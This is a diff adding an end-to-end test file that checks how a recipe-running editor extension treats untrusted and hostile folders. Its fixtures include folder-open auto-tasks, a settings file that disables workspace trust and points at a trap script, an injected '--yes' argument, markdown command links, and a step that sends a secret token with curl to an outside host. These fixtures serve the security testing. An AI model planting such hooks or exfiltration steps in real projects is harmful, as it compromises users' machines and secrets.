@@ -1,0 +1,142 @@
+// Trust: what a folder gets that nobody trusts, what one gets that means ill, and what a person sees
+// before a recipe runs.
+
+import assert from 'node:assert/strict';
+import { existsSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { after, before, test } from 'node:test';
+
+import { Editor } from './harness/editor';
+import { until } from './harness/wait';
+import { World } from './harness/world';
+
+/** Markup that an editor could obey or load. */
+const EVIL = '[click me](command:workbench.action.closeAllEditors) ![x](https://evil.example/a.png) <img src=x>';
+
+const RECIPE = `[recipe]
+name = "build ${EVIL}"
+
+[target]
+type = "local"
+
+[[step]]
+id = "build"
+name = "Build ${EVIL}"
+run_commands = { commands = "touch built" }
+
+[[step]]
+id = "broken"
+depends_on = ["bild"]
+run_commands = { commands = "true" }
+`;
+
+const SOUND = RECIPE.replace('bild', 'build');
+const CHANGED = `${SOUND}
+[[step]]
+id = "send"
+run_commands = { host_id = "somebody@203.0.113.7", commands = "curl --data @- example.org", env = { TOKEN = "\${secret:demo/token}" } }
+`;
+
+/** A folder that tries everything to have a program of its own started. */
+function files(recipe: string): Record<string, string> {
+  const trap = './trap';
+  return {
+    'build.recipe.toml': recipe,
+    trap: '#!/bin/sh\ntouch "$(dirname "$0")/sprung"\n',
+    doppio: '#!/bin/sh\ntouch "$(dirname "$0")/sprung"\n',
+    '.vscode/settings.json': JSON.stringify({
+      'doppio.server.path': trap,
+      'task.allowAutomaticTasks': 'on',
+      'security.workspace.trust.enabled': false,
+    }),
+    '.vscode/tasks.json': JSON.stringify({
+      version: '2.0.0',
+      tasks: [
+        { type: 'doppio', recipe: 'build.recipe.toml', action: 'run', runOptions: { runOn: 'folderOpen' } },
+        { type: 'doppio', recipe: '--yes', action: 'run', target: '--yes', runOptions: { runOn: 'folderOpen' } },
+      ],
+    }),
+    '.env': 'DOPPIO_SECRET_DEMO_TOKEN=made-up-value\n',
+  };
+}
+
+let world: World;
+
+before(async () => {
+  world = await World.start();
+  world.store('demo/token', 'made-up-value');
+});
+
+after(async () => {
+  await world.end();
+});
+
+test('a folder that is not trusted is explained and nothing in it runs, until it is trusted', async () => {
+  const editor = await open(RECIPE, 'ask');
+  try {
+    await editor.seen('untrusted', async () => {
+      await editor.dialog.getByRole('button', { name: /No, I don't trust/ }).click();
+      await editor.openFile('build.recipe.toml');
+      await editor.page.locator('.squiggly-error').first().waitFor();
+      await editor.cursorAfter('depends_on = ["bi');
+      await editor.quickFix("Change to 'build'");
+      await editor.page.locator('.squiggly-error').first().waitFor({ state: 'detached' });
+      await editor.page.keyboard.press('Control+S');
+      await editor.lens('Run recipe').first().click();
+      await editor.notifications.getByText('Recipes run only in folders that you trust').waitFor();
+      await editor.screenshot('untrusted');
+      assert.ok(!existsSync(path.join(editor.folder, 'built')) && !existsSync(path.join(editor.folder, 'sprung')));
+      await editor.notifications.getByRole('button', { name: 'Manage Trust' }).click();
+      await editor.page.locator('.workspace-trust-editor').getByRole('button', { name: /^Trust/ }).first().click();
+      await editor.openFile('build.recipe.toml');
+      await editor.lens('Run recipe').first().click();
+      await editor.approve();
+      await until('the step', () => existsSync(path.join(editor.folder, 'built')));
+      assert.ok(!existsSync(path.join(editor.folder, 'sprung')), 'its settings name a program');
+    });
+  } finally {
+    await editor.close();
+  }
+});
+
+test('a folder that means ill starts nothing and makes no command of its names', async () => {
+  const editor = await open(SOUND, 'given');
+  try {
+    await editor.seen('hostile', async () => {
+      await editor.openFile('build.recipe.toml');
+      await editor.lens('Run recipe').first().waitFor();
+      await editor.cursorAfter('depends_on = ["bu');
+      await editor.command('Show or Focus Hover');
+      const hover = editor.page.locator('.monaco-hover:visible', { hasText: 'Step' });
+      await hover.getByText('click me', { exact: false }).waitFor();
+      await editor.screenshot('hostile-hover');
+      assert.equal(await hover.locator('a, img').count(), 0, await hover.innerHTML());
+      await editor.page.keyboard.press('Escape');
+
+      await editor.lens('Run recipe').first().click();
+      await editor.dialog.getByText('On this machine, without secrets:').waitFor();
+      assert.equal(await editor.dialog.locator('a, img').count(), 0);
+      await editor.dialog.getByRole('button', { name: 'Cancel' }).click();
+      assert.ok(!existsSync(path.join(editor.folder, 'built')), 'neither the tasks nor a run that nobody approved');
+      assert.equal(await editor.page.locator('.notifications-toasts a[href], .notifications-toasts [data-href]').count(), 0);
+      assert.ok(!existsSync(path.join(editor.folder, 'sprung')));
+
+      await editor.lens('Approve and run').first().click();
+      await until('the step', () => existsSync(path.join(editor.folder, 'built')));
+    });
+    await editor.seen('changed', async () => {
+      writeFileSync(path.join(editor.folder, 'build.recipe.toml'), CHANGED);
+      await editor.lens('Run step').nth(2).waitFor();
+      await editor.lens('Run recipe').first().click();
+      await editor.dialog.getByText('+ sends demo/token to somebody@203.0.113.7 (a new host)').waitFor();
+      await editor.screenshot('approve-changed');
+      await editor.dialog.getByRole('button', { name: 'Cancel' }).click();
+    });
+  } finally {
+    await editor.close();
+  }
+});
+
+async function open(recipe: string, trust: 'given' | 'ask'): Promise<Editor> {
+  return await Editor.open({ world, files: files(recipe), trust, programs: ['trap', 'doppio'] });
+}
